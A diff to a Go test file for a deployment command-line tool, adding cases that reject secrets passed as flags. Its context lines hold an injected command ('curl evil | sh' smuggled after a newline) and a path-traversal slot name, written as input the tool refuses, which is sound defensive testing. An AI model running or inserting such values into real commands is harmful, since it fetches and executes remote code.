@@ -176,6 +176,8 @@ func cases() []tcase {
 		flagCase("workers -1", 2, []string{"--workers", "1 to 128"}, "", "--workers", "-1"),
 		flagCase("workers 100000", 2, []string{"--workers", "1 to 128"}, "", "--workers", "100000"),
 		flagCase("startup command with a newline", 2, []string{"--startup-command", "line break"}, "one line", "--startup-command", "gunicorn x\ncurl evil | sh"),
+		flagCase("--access-token on the command line", 2, []string{"--access-token is a secret"}, "DJDEPLOY_ACCESS_TOKEN", "--access-token", "eyJhbGciOi.argv-token"),
+		flagCase("--storage-connection-string on the command line", 2, []string{"--storage-connection-string is a secret"}, "AZURE_STORAGE_CONNECTION_STRING", "--storage-connection-string", "AccountName=x;AccountKey=YXJndg=="),
 		flagCase("--skip a step that cannot be skipped", 2, []string{`"deploy"`}, "skip one of", "--skip", "deploy"),
 		flagCase("--slot production", 2, []string{"production"}, "staging", "--slot", "production"),
 		flagCase("slot name escaping its path", 2, []string{"invalid slot name"}, "", "--slot", "st/../x"),
